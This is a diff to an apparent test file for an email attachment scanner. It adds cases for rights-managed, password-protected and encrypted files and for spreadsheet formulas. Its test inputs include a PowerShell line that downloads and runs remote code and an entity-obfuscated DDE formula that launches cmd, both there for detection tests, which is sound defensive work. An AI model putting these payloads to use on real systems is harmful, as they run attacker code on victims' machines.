@@ -87,6 +87,7 @@ def disc():
         b"ITSF\x03\0\0\0" + bytes(200),
         b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER]\r\n",
         b"[InternetShortcut]\r\nURL=file://files.example/x.exe\r\n",
+        b"\xef\xbb\xbf[InternetShortcut]\r\nURL=file://files.example/x.exe\r\n",
         b'<?xml version="1.0"?><libraryDescription xmlns="x"/>',
         b"IEX (New-Object Net.WebClient).DownloadString('https://a.example/x')",
         b"screen mode id:i:2\r\nfull address:s:host.example\r\n",
@@ -200,6 +201,11 @@ def test_e15_macros_in_a_web_archive(told, name):
 def test_e15_macros_in_a_web_archive_behind_a_pdf(told):
     found = told("scan.pdf", PDF + archive(b"ActiveMime" + bytes(50)))
     assert "editdata.mso inside web archive.mht inside scan.pdf" in found
+
+
+def test_e15_a_formula_in_references_of_a_page_that_excel_opens(told):
+    page = b"<table><tr><td>&#61;cmd&#x7c;'/c calc'&excl;A1</td></tr></table>"
+    assert told("list.xls", page, "application/vnd.ms-excel") == {"list.xls": "formula that starts cmd"}
 
 
 def test_e15_a_formula_in_a_table_of_text(told):
@@ -349,6 +355,15 @@ def test_d25_what_is_signed_is_opened(told):
     [
         ("smime.p7m", value(0x30, PKCS7 + b"\x03" + value(0xA0, bytes(200))), "encrypted S/MIME message"),
         ("a.asc", b"-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA\r\n-----END PGP MESSAGE-----\r\n", "OpenPGP message"),
+        (
+            "smime.p7m",
+            base64.encodebytes(value(0x30, PKCS7 + b"\x03" + value(0xA0, bytes(200)))),
+            "encrypted S/MIME message",
+        ),
+        ("a.pfile", b".pfile\2\0" + bytes(90), "rights-managed Microsoft file"),
+        ("a.psafe3", b"PWS3" + bytes(range(200)), "Password Safe database"),
+        ("a.pages", zipped({".iwpv2": b"x", "Index/Document.iwa": b"x"}), "iWork document with a password"),
+        ("a.tdf", zipped({"0.manifest.json": b"{}", "0.payload": b"x"}), "file encrypted in the Trusted Data Format"),
         ("message.rpmsg", bytes.fromhex("76e80460c411e386") + bytes(90), "rights-managed Microsoft message"),
     ],
 )
@@ -358,6 +373,21 @@ def test_d25_what_is_locked_is_told_whatever_its_name(facts_of, name, content, r
     assert reason in {part.encrypted for part in facts.parts}
     assert Reason.ENCRYPTED in {unread.reason for unread in facts.unread}
     assert any(reason in found.summary for found in encrypted_content.detect(facts, encrypted_content.Parameters()))
+
+
+@pytest.mark.parametrize("name", ["smime.p7m", "a.hc", "a.tc", "report.pdf.enc"])
+def test_d25_what_is_only_called_locked_and_is_nothing_else_is_told(facts_of, name):
+    facts = facts_of(mail(name, b"\x12\x33\x44" + bytes(range(200))))
+    assert any(encrypted_content.detect(facts, encrypted_content.Parameters()))
+
+
+def test_d25_what_is_signed_is_no_locked_file_whatever_its_name(facts_of):
+    inner = value(0x30, PKCS7 + b"\x01" + value(0xA0, value(0x04, mail("a.txt", b"words"))))
+    signed = value(0x30, PKCS7 + b"\x02" + value(0xA0, value(0x30, b"\x02\x01\x01" + value(0x31, b"") + inner)))
+    for content in (signed, base64.encodebytes(signed)):
+        facts = facts_of(mail("smime.p7m", content))
+        assert facts.unread == ()
+        assert any("words" in text.text for text in facts.texts)
 
 
 def test_d25_a_pgp_message_of_mime(facts_of):
